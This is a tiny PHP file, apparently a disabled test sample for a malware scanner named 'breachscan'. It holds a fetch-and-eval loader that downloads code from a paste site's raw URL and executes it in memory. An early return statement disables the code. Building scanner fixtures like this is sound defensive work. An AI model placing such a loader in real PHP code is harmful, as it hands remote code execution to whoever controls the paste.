<?php
// synthetic test sample for breachscan: runs code fetched from a paste site's raw view
// (the paste id is made up) without writing it anywhere. Disabled.
return;
$h = curl_init('https://paste.ee/r/SAMPLE');
curl_setopt($h, CURLOPT_RETURNTRANSFER, true);
eval('?>' . curl_exec($h));
